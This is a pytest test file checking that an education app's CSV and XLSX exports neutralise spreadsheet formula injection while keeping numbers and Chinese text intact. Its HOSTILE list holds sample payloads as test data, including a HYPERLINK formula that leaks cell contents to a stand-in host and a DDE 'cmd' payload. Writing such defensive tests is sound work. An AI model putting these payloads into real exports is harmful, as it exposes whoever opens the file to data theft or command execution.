"""CSV / XLSX exports: formula injection neutralised, numbers kept, Chinese readable."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from flask_babel import force_locale
from openpyxl import load_workbook

from eduinnov.achievements.models import Level
from eduinnov.core.tabular import Column, columns_from_dataframe, neutralise, to_csv, to_xlsx

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=1+1",
    " =1",
    "\x00=1",
]
COLUMNS = [Column("name", "姓名"), Column("note", "备注"), Column("score", "得分", number_format="0.0"),
           Column("count", "数量"), Column("day", "日期")]


def _rows():
    return [{"name": f"学生{i}", "note": value, "score": -3.5, "count": -2, "day": date(2024, 5, i + 1)}
            for i, value in enumerate(HOSTILE)]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_dangerous_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3.5, -2, 0, 1e9, 2.25])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_neutralise_other_values():
    assert neutralise(None) is None
    assert neutralise(float("nan")) is None
    assert neutralise("普通文本") == "普通文本"
    assert neutralise("a=b") == "a=b"
    assert neutralise(True) is True
    with force_locale("en"):
        assert neutralise(Level.NATIONAL) == "National"  # the enum's label, not its value


def test_csv_has_bom_chinese_and_neutralised_cells():
    data = to_csv(COLUMNS, _rows())
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["姓名", "备注", "得分", "数量", "日期"]
    assert [r[1] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert {r[2] for r in rows[1:]} == {"-3.5"}
    assert {r[3] for r in rows[1:]} == {"-2"}
    assert rows[1][0] == "学生0" and rows[1][4] == "2024-05-01"
    # Excel reads the BOM'd file as UTF-8
    assert data.decode("utf-8-sig").splitlines()[0] == "姓名,备注,得分,数量,日期"


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    path = tmp_path / "export.xlsx"
    path.write_bytes(to_xlsx(COLUMNS, _rows(), sheet_title="成果/导出"))
    sheet = load_workbook(path).active
    assert sheet.title == "成果_导出"
    assert [c.value for c in sheet[1]] == ["姓名", "备注", "得分", "数量", "日期"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    for row, value in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=2)
        assert cell.data_type == "s", (value, cell.data_type)
        # Without lxml, XML reading normalises a carriage return to a line feed; with lxml (python-docx
        # needs it) openpyxl keeps it as _x000D_. The apostrophe is what matters (xlsx cannot hold a NUL).
        kept = "'" + value.replace("\x00", "")
        assert cell.value in (kept, kept.replace("\r", "\n"))
        assert sheet.cell(row=row, column=3).value == -3.5
        assert sheet.cell(row=row, column=3).data_type == "n"
        assert sheet.cell(row=row, column=3).number_format == "0.0"
        assert sheet.cell(row=row, column=4).value == -2
        assert sheet.cell(row=row, column=1).value.startswith("学生")
    # no cell anywhere is a formula
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    # the hostile column is wider than the default, CJK counted double
    assert sheet.column_dimensions["B"].width > 20


def test_xlsx_drops_control_characters_it_cannot_store(tmp_path):
    data = to_xlsx([Column("v", "Value")], [{"v": "a\x00b\x07c"}])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "abc"


def test_dataframe_input_with_translated_headers(tmp_path):
    frame = pd.DataFrame({"student": ["张三", "=evil()"], "score": [88.5, -1.25]})
    columns = columns_from_dataframe(frame, {"student": "学生", "score": "得分"})
    assert [c.header for c in columns] == ["学生", "得分"]
    sheet = load_workbook(io.BytesIO(to_xlsx(columns, frame))).active
    assert sheet["A3"].value == "'=evil()" and sheet["A3"].data_type == "s"
    assert sheet["B3"].value == -1.25 and sheet["B3"].data_type == "n"
    text = to_csv(columns, frame).decode("utf-8-sig")
    assert text.splitlines() == ["学生,得分", "张三,88.5", "'=evil(),-1.25"]


def test_headers_are_neutralised_too():
    data = to_csv([Column("x", "=cmd")], [{"x": 1}])
    assert data.decode("utf-8-sig").splitlines()[0] == "'=cmd"
